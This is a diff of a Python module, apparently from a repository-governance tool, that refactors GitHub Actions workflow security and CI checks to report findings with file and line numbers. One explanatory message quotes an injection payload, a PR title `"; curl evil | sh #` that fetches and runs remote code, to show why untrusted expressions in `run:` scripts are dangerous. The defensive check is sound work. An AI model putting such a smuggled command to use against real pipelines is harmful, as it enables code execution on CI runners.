@@ -11,11 +11,21 @@ import re
 import shlex
 from collections.abc import Iterator
 from dataclasses import dataclass
-from typing import Any
+from typing import Any, ClassVar
 
 import yaml
 
-from govkit.checks.base import Check, Skip
+from govkit.checks.base import (
+    EVERY_REPOSITORY,
+    Applies,
+    Check,
+    Family,
+    Finding,
+    Skip,
+    fact,
+    register,
+)
+from govkit.profile import Profile
 from govkit.repo import Repo
 
 NOXFILE = "noxfile.py"
@@ -66,10 +76,44 @@ def job_snippet(repo: Repo, name: str) -> str:
 
 @dataclass(frozen=True)
 class Workflow:
-    """One parsed workflow file."""
+    """One parsed workflow file, with the YAML nodes that know each value's line."""
 
     path: str
     doc: dict[Any, Any]
+    node: yaml.Node | None = None
+
+    def line(self, *keys: str | int) -> int | None:
+        """The 1-based line of the value at keys (a mapping entry: its key's line)."""
+        node, line = self.node, None
+        for key in keys:
+            if isinstance(node, yaml.MappingNode):
+                entry = next((e for e in node.value if str(e[0].value) == str(key)), None)
+                if entry is None:
+                    return line
+                line, node = entry[0].start_mark.line + 1, entry[1]
+            elif isinstance(node, yaml.SequenceNode) and isinstance(key, int):
+                if key >= len(node.value):
+                    return line
+                node = node.value[key]
+                line = node.start_mark.line + 1
+            else:
+                return line
+        return line
+
+    def text_line(self, *keys: str | int, offset: int = 0) -> int | None:
+        """The line of the offset-th line of the string at keys (a `run:` block's lines)."""
+        node = self.node
+        for key in keys:
+            if isinstance(node, yaml.MappingNode):
+                node = next((v for k, v in node.value if str(k.value) == str(key)), None)
+            elif isinstance(node, yaml.SequenceNode) and isinstance(key, int):
+                node = node.value[key] if key < len(node.value) else None
+            else:
+                node = None
+        if not isinstance(node, yaml.ScalarNode):
+            return self.line(*keys)
+        block = node.style in ("|", ">")
+        return node.start_mark.line + 1 + (1 + offset if block else offset)
 
     @property
     def events(self) -> set[str]:
@@ -104,6 +148,9 @@ def workflows(repo: Repo) -> list[Workflow]:
     return repo.memo("workflows", lambda: _parse_workflows(repo))
 
 
+fact("workflows")(workflows)  # checks may take `workflows` by name
+
+
 def all_jobs(repo: Repo) -> Iterator[tuple[Workflow, str, dict[str, Any]]]:
     """(workflow, job id, job) for every job of every workflow."""
     for flow in workflows(repo):
@@ -115,17 +162,27 @@ def _parse_workflows(repo: Repo) -> list[Workflow]:
     found = []
     for path in repo.workflow_files:
         try:
-            doc = repo.yaml(path)
+            node = yaml.compose(repo.text(path) or "", Loader=yaml.SafeLoader)
+            doc = None if node is None else yaml.SafeLoader("").construct_document(node)
         except yaml.YAMLError:
             continue
         if isinstance(doc, dict):
-            found.append(Workflow(path, doc))
+            found.append(Workflow(path, doc, node))
     return found
 
 
+# Stands for a `${{ ... }}` expression inside a session name: its value is known only at run time.
+EXPRESSION_MARK = "\x00"
+
+
 def nox_calls(script: str) -> list[str]:
-    """Session names a shell script runs with `nox -s NAME ...` (also `uv run nox`, `uvx nox`)."""
+    """Session names a shell script runs with `nox -s NAME ...` (also `uv run nox`, `uvx nox`).
+
+    An expression (`nox -s test-${{ matrix.python }}`) is not read as words: it becomes
+    EXPRESSION_MARK in the name (`test-\x00`), and a name that is only an expression is dropped.
+    """
     names: list[str] = []
+    script = _EXPRESSION.sub(EXPRESSION_MARK, script)
     for line in script.splitlines():
         try:
             words = shlex.split(line, comments=True)
@@ -145,7 +202,7 @@ def nox_calls(script: str) -> list[str]:
                 names.append(word)
             else:
                 collecting = False
-    return names
+    return [name for name in names if name.strip(EXPRESSION_MARK + "'\"")]
 
 
 def nox_sessions(source: str) -> dict[str, bool]:
@@ -210,7 +267,11 @@ def _job_sessions(flow: Workflow, job: dict[str, Any]) -> list[str]:
 
 
 def _session_matches(called: str, session: str) -> bool:
-    # `nox -s tests-3.11` and `nox -s "tests(python='3.11')"` run a parametrized `tests`.
+    # `nox -s tests-3.11` and `nox -s "tests(python='3.11')"` run a parametrized `tests`;
+    # `nox -s tests-${{ matrix.python }}` too (the expression is EXPRESSION_MARK here).
+    if EXPRESSION_MARK in called:
+        known = called.split(EXPRESSION_MARK, 1)[0]
+        return session.startswith(known) or known.startswith((f"{session}-", f"{session}("))
     return called == session or called.startswith((f"{session}-", f"{session}("))
 
 
@@ -224,63 +285,116 @@ def _noxfile_sessions(repo: Repo) -> dict[str, bool]:
         raise Skip(f"{NOXFILE} does not parse: {error.msg} (line {error.lineno})") from error
 
 
-def _failures(header: str, lines: list[str], fix: str) -> str | None:
-    if not lines:
+Where = tuple[str, str, int | None]  # (what is wrong, file, line)
+
+
+def _findings(header: str, found: list[Where], fix: str) -> list[Finding]:
+    """One finding per place: what is wrong there, then the shared explanation and fix."""
+    return [Finding(f"{what}\n{header}\n{fix}", path, line) for what, path, line in found]
+
+
+def line_of(repo: Repo, path: str, needle: str | re.Pattern[str], after: int = 0) -> int | None:
+    """The 1-based line of PATH holding NEEDLE (text or pattern), after line AFTER."""
+    for number, line in enumerate((repo.text(path) or "").splitlines(), 1):
+        if number <= after:
+            continue
+        if needle.search(line) if isinstance(needle, re.Pattern) else needle in line:
+            return number
+    return None
+
+
+def job_line(repo: Repo, path: str, job_id: str) -> int | None:
+    """The line where job JOB_ID starts, under `jobs:`."""
+    jobs = line_of(repo, path, re.compile(r"^jobs\s*:"))
+    if jobs is None:
         return None
-    return "\n".join([header, *(f"  {line}" for line in lines), fix])
+    return line_of(repo, path, re.compile(rf"^\s+[\"']?{re.escape(job_id)}[\"']?\s*:"), jobs)
 
 
-class GH100(Check):
+class WorkflowCheck(Check):
+    """GitHub Actions workflows: what every workflow check shares.
+
+    No check `requires` another: a workflow that fails one check is still examined by the rest.
+    """
+
+    family: ClassVar[Family] = "ci"
+    ticket = "T01"
+    applies: ClassVar[Applies] = Applies(needs=("github-actions",))
+
+
+@register
+class GH100(WorkflowCheck):
     """A CI workflow runs on pull requests"""
 
-    family = "ci"
+    applies = EVERY_REPOSITORY
+    scope = "health"
+    kinds = frozenset({"no-ci", "no-pr-ci"})
     severity = "P0"
-    ticket = "T01"
     files_expected = (CI_WORKFLOW,)
 
-    def check(self, repo: Repo) -> str | None:
-        broken = []
+    def check(self, repo: Repo, profile: Profile) -> list[Finding]:
+        broken: list[Where] = []
         for path in repo.workflow_files:
             try:
                 doc = repo.yaml(path)
             except yaml.YAMLError as error:
-                broken.append(f"{path}: invalid YAML ({str(error).splitlines()[0]})")
+                mark = getattr(error, "problem_mark", None)
+                line = mark.line + 1 if mark is not None else None
+                broken.append((f"invalid YAML ({str(error).splitlines()[0]})", path, line))
                 continue
             if not isinstance(doc, dict) or not isinstance(doc.get("jobs"), dict):
-                broken.append(f"{path}: not a workflow (no `jobs:` mapping)")
-        if broken:
-            return _failures(
-                "Fix these workflow files:",
-                broken,
-                "Validate with `check-jsonschema --builtin-schema vendor.github-workflows FILE`.",
-            )
-        if any(flow.events & {"pull_request"} for flow in workflows(repo)):
-            return None
-        return (
-            f"No workflow runs on `pull_request`. Create {CI_WORKFLOW} with one job per nox "
-            "session, starting with:\n"
-            "on:\n  pull_request:\n  push:\n    branches: [main]\n"
-            "permissions: {}\n" + CONCURRENCY_SNIPPET + "\njobs:\n" + job_snippet(repo, "lint")
+                broken.append(("not a workflow (no `jobs:` mapping)", path, None))
+        found = _findings(
+            "GitHub cannot run this workflow.",
+            broken,
+            "Validate with `check-jsonschema --builtin-schema vendor.github-workflows FILE`.",
         )
+        if any(flow.events & {"pull_request"} for flow in workflows(repo)):
+            return found
+        other = sorted(profile.ci - {"github-actions"})
+        if other and not repo.workflow_files:
+            raise Skip(f"CI runs on {', '.join(other)}; this check reads GitHub Actions only")
+        no_pr = "no-pr-ci" if repo.workflow_files else "no-ci"
+        what = (
+            "No workflow runs on `pull_request` (they run on "
+            + ", ".join(sorted({e for flow in workflows(repo) for e in flow.events}) or ["nothing"])
+            + "): a change is tested only after it is merged."
+            if no_pr == "no-pr-ci"
+            else "No CI: no workflow under .github/workflows/."
+        )
+        return [
+            *found,
+            Finding(
+                f"{what} Create {CI_WORKFLOW} with one job per gate, starting with:\n"
+                "on:\n  pull_request:\n  push:\n    branches: [main]\n"
+                "permissions: {}\n" + CONCURRENCY_SNIPPET + "\njobs:\n" + job_snippet(repo, "lint")
+            ),
+        ]
 
 
-class GH101(Check):
+@register
+class GH101(WorkflowCheck):
     """Workflow token permissions are read-only at the top, writes granted per job"""
 
+    scope = "health"
+    kinds = frozenset({"workflow-permissions"})
     family = "security"
     severity = "P0"
-    ticket = "T01"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad = []
-        for flow in workflows(repo):
-            if "permissions" not in flow.doc:
-                bad.append(f"{flow.path}: no top-level `permissions:` (the default may be write)")
-            elif not _read_only(flow.doc["permissions"]):
-                bad.append(f"{flow.path}: top-level `permissions: {flow.doc['permissions']}`")
-        return _failures(
-            "Workflow-wide token permissions must be empty or read-only:",
+    def check(self, repo: Repo, workflows: list[Workflow]) -> list[Finding]:
+        bad: list[Where] = []
+        for flow in workflows:
+            every_job_sets = bool(flow.jobs) and all("permissions" in j for j in flow.jobs.values())
+            if "permissions" not in flow.doc and not every_job_sets:
+                line = line_of(repo, flow.path, re.compile(r"^jobs\s*:"))
+                bad.append(
+                    ("no top-level `permissions:` (the default may be write)", flow.path, line)
+                )
+            elif "permissions" in flow.doc and not _read_only(flow.doc["permissions"]):
+                line = line_of(repo, flow.path, re.compile(r"^permissions\s*:"))
+                bad.append((f"top-level `permissions: {flow.doc['permissions']}`", flow.path, line))
+        return _findings(
+            "Workflow-wide token permissions must be empty or read-only.",
             bad,
             "Set at the top of each workflow:\n"
             "permissions: {}            # or: permissions: {contents: read}\n"
@@ -297,25 +411,27 @@ def _read_only(permissions: Any) -> bool:
     )
 
 
-class GH102(Check):
+@register
+class GH102(WorkflowCheck):
     """Every action and reusable workflow is pinned to a full commit SHA"""
 
+    scope = "health"
+    kinds = frozenset({"action-unpinned"})
     family = "security"
     severity = "P1"
-    ticket = "T01"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad = []
+    def check(self, repo: Repo) -> list[Finding]:
+        bad: list[Where] = []
         for flow, job_id, job in all_jobs(repo):
             refs = [("uses", job.get("uses"))] + [
                 (f"steps[{i}]", step.get("uses")) for i, step in enumerate(flow.steps(job))
             ]
             for where, ref in refs:
                 if isinstance(ref, str) and not _pinned(ref):
-                    bad.append(f"{flow.path}: jobs.{job_id}.{where} uses `{ref}`")
-        return _failures(
-            "Tags and branches can be moved to other code; pin each to a commit SHA:",
+                    line = line_of(repo, flow.path, f"uses: {ref}") or line_of(repo, flow.path, ref)
+                    bad.append((f"jobs.{job_id}.{where} uses `{ref}`", flow.path, line))
+        return _findings(
+            "Tags and branches can be moved to other code; pin each to a commit SHA.",
             bad,
             "Replace the tag with its 40-character commit SHA and keep the tag as a comment:\n"
             "  uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n"
@@ -333,29 +449,36 @@ def _pinned(ref: str) -> bool:
     return bool(_SHA.fullmatch(ref))
 
 
-class GH103(Check):
+@register
+class GH103(WorkflowCheck):
     """No pull_request_target or workflow_run workflow checks out the pull request's code"""
 
+    scope = "health"
+    kinds = frozenset({"pr-target-checkout"})
     family = "security"
     severity = "P0"
-    ticket = "T01"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad = []
-        for flow in workflows(repo):
+    def check(self, repo: Repo, workflows: list[Workflow]) -> list[Finding]:
+        bad: list[Where] = []
+        for flow in workflows:
             privileged = flow.events & {"pull_request_target", "workflow_run"}
             if not privileged:
                 continue
             for job_id, job in flow.jobs.items():
+                start = job_line(repo, flow.path, job_id) or 0
                 for i, step in enumerate(flow.steps(job)):
                     if _checks_out_head(step):
+                        line = line_of(repo, flow.path, _PR_HEAD, start) or start or None
                         bad.append(
-                            f"{flow.path}: jobs.{job_id}.steps[{i}] checks out the PR head "
-                            f"under `{'/'.join(sorted(privileged))}`"
+                            (
+                                f"jobs.{job_id}.steps[{i}] checks out the PR head "
+                                f"under `{'/'.join(sorted(privileged))}`",
+                                flow.path,
+                                line,
+                            )
                         )
-        return _failures(
-            "These run untrusted code with secrets and a write token:",
+        return _findings(
+            "This runs untrusted code with secrets and a write token.",
             bad,
             "Build and test PR code under `on: pull_request` (read-only token, no secrets). "
             "Keep `pull_request_target`/`workflow_run` for jobs that never check out or run the "
@@ -377,17 +500,20 @@ def _checks_out_head(step: dict[str, Any]) -> bool:
     return False
 
 
-class GH104(Check):
+@register
+class GH104(WorkflowCheck):
     """No untrusted `${{ github.event.* }}` is expanded inside a `run:` script"""
 
+    scope = "health"
+    kinds = frozenset({"untrusted-expression"})
     family = "security"
     severity = "P0"
-    ticket = "T01"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad, first = [], ""
+    def check(self, repo: Repo) -> list[Finding]:
+        bad: list[Where] = []
+        first = ""
         for flow, job_id, job in all_jobs(repo):
+            start = job_line(repo, flow.path, job_id) or 0
             for i, step in enumerate(flow.steps(job)):
                 run = step.get("run")
                 if not isinstance(run, str):
@@ -395,16 +521,19 @@ class GH104(Check):
                 for expression in _EXPRESSION.findall(run):
                     if _UNTRUSTED.search(expression):
                         first = first or expression.strip()
+                        line = line_of(repo, flow.path, expression, start)
                         bad.append(
-                            f"{flow.path}: jobs.{job_id}.steps[{i}].run expands "
-                            f"`${{{{ {expression.strip()} }}}}`"
+                            (
+                                f"jobs.{job_id}.steps[{i}].run expands "
+                                f"`${{{{ {expression.strip()} }}}}`",
+                                flow.path,
+                                line,
+                            )
                         )
-        if not bad:
-            return None
         var = _env_name(first)
-        return _failures(
+        return _findings(
             "Expressions are pasted into the script before the shell runs: a PR title like "
-            '`"; curl evil | sh #` becomes code. Found:',
+            '`"; curl evil | sh #` becomes code.',
             bad,
             "Pass the value through an environment variable and quote it in the script:\n"
             f"  - env:\n      {var}: ${{{{ {first} }}}}\n"
@@ -419,17 +548,17 @@ def _env_name(expression: str) -> str:
     return name or "VALUE"
 
 
-class GH105(Check):
+@register
+class GH105(WorkflowCheck):
     """Pull request workflows cancel superseded runs (concurrency, cancel-in-progress)"""
 
-    family = "ci"
+    scope = "adoption"
+    kinds = frozenset()
     severity = "P2"
-    ticket = "T01"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad = []
-        for flow in workflows(repo):
+    def check(self, repo: Repo, workflows: list[Workflow]) -> list[Finding]:
+        bad: list[Where] = []
+        for flow in workflows:
             if not flow.on_pull_requests:
                 continue
             concurrency = flow.doc.get("concurrency")
@@ -437,78 +566,94 @@ class GH105(Check):
                 concurrency.get("cancel-in-progress") if isinstance(concurrency, dict) else None
             )
             if cancel is not True and not (isinstance(cancel, str) and "${{" in cancel):
-                bad.append(f"{flow.path}: no top-level concurrency with `cancel-in-progress: true`")
-        return _failures(
-            "Each push to a PR queues a new run next to the stale ones:",
+                line = line_of(repo, flow.path, re.compile(r"^(concurrency|jobs)\s*:"))
+                what = "no top-level concurrency with `cancel-in-progress: true`"
+                bad.append((what, flow.path, line))
+        return _findings(
+            "Each push to a PR queues a new run next to the stale ones.",
             bad,
             "Add at the top of the workflow:\n" + CONCURRENCY_SNIPPET,
         )
 
 
-class GH106(Check):
+@register
+class GH106(WorkflowCheck):
     """Every job sets timeout-minutes"""
 
-    family = "ci"
+    scope = "health"
+    kinds = frozenset({"no-timeout"})
     severity = "P1"
-    ticket = "T01"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad = [
-            f"{flow.path}: jobs.{job_id}"
+    def check(self, repo: Repo) -> list[Finding]:
+        bad: list[Where] = [
+            (
+                f"jobs.{job_id} has no `timeout-minutes`",
+                flow.path,
+                job_line(repo, flow.path, job_id),
+            )
             for flow, job_id, job in all_jobs(repo)
             if "uses" not in job and "timeout-minutes" not in job
         ]
-        return _failures(
-            "A hung job otherwise holds a runner for 6 hours:",
+        return _findings(
+            "A hung job otherwise holds a runner for 6 hours.",
             bad,
             "Add to each job, next to `runs-on:` (a little above its usual duration):\n"
             "    timeout-minutes: 20",
         )
 
 
-class GH107(Check):
+@register
+class GH107(WorkflowCheck):
     """Every CI job runs a nox session (`nox -s NAME`)"""
 
-    family = "ci"
+    scope = "adoption"
+    kinds = frozenset()
     severity = "P1"
     ticket = "T17"
-    requires = frozenset({"GH100"})
 
-    def check(self, repo: Repo) -> str | None:
-        bad = [
-            f"{flow.path}: jobs.{job_id}"
+    def check(self, repo: Repo) -> list[Finding]:
+        bad: list[Where] = [
+            (f"jobs.{job_id} runs no nox session", flow.path, job_line(repo, flow.path, job_id))
             for flow, job_id, job in all_jobs(repo)
             if "uses" not in job and not _job_sessions(flow, job)
         ]
-        return _failures(
-            "Gates live in noxfile.py so local and CI runs are the same; these jobs call no nox "
-            "session:",
+        return _findings(
+            "Gates live in noxfile.py so local and CI runs are the same.",
             bad,
             "Move the job's commands into a nox session and make its last step:\n"
             "      - run: nox -s JOB_ID",
         )
 
 
-class GH108(Check):
+@register
+class GH108(WorkflowCheck):
     """Every `nox -s NAME` in a workflow names a real nox session"""
 
-    family = "ci"
+    scope = "health"
+    kinds = frozenset()
     severity = "P1"
     ticket = "T17"
-    requires = frozenset({"GH100"})
     files_expected = (CI_WORKFLOW, "noxfile.py")
 
-    def check(self, repo: Repo) -> str | None:
+    def check(self, repo: Repo) -> list[Finding]:
         sessions = _noxfile_sessions(repo)
-        bad = [
-            f"{flow.path}: jobs.{job_id} runs `nox -s {called}`"
+        bad: list[Where] = [
+            (
+                f"jobs.{job_id} runs `nox -s {called.replace(EXPRESSION_MARK, '${{ ... }}')}`",
+                flow.path,
+                line_of(
+                    repo,
+                    flow.path,
+                    called.split(EXPRESSION_MARK)[0],
+                    job_line(repo, flow.path, job_id) or 0,
+                ),
+            )
             for flow, job_id, job in all_jobs(repo)
             for called in _job_sessions(flow, job)
             if not any(_session_matches(called, s) for s in sessions)
         ]
-        return _failures(
-            f"These sessions are not in {NOXFILE} (nox would fail with 'Sessions not found'):",
+        return _findings(
+            f"This session is not in {NOXFILE} (nox would fail with 'Sessions not found').",
             bad,
             f"Use one of: {', '.join(sorted(sessions)) or '(none)'}; or add the session:\n"
             "@nox.session\ndef NAME(session: nox.Session) -> None:\n"
@@ -516,13 +661,14 @@ class GH108(Check):
         )
 
 
-class GH109(Check):
+@register
+class GH109(WorkflowCheck):
     """Every default nox session has a CI job of the same name"""
 
-    family = "ci"
+    scope = "adoption"
+    kinds = frozenset()
     severity = "P1"
     ticket = "T17"
-    requires = frozenset({"GH100"})
     files_expected = (CI_WORKFLOW, "noxfile.py")
 
     def check(self, repo: Repo) -> str | None:
@@ -554,16 +700,18 @@ class GH109(Check):
             fix += f" Add under `jobs:` in {CI_WORKFLOW}:\n" + "\n".join(
                 job_snippet(repo, name) for name in missing
             )
-        return _failures("CI and noxfile.py disagree:", lines, fix)
+        return "\n".join(["CI and noxfile.py disagree:", *(f"  {line}" for line in lines), fix])
 
 
-class GH110(Check):
+@register
+class GH110(WorkflowCheck):
     """A secrets scan job (`nox -s secrets`) runs on pull requests"""
 
+    scope = "adoption"
+    kinds = frozenset()
     family = "security"
     severity = "P0"
     ticket = "T16"
-    requires = frozenset({"GH100"})
 
     def check(self, repo: Repo) -> str | None:
         for flow in workflows(repo):
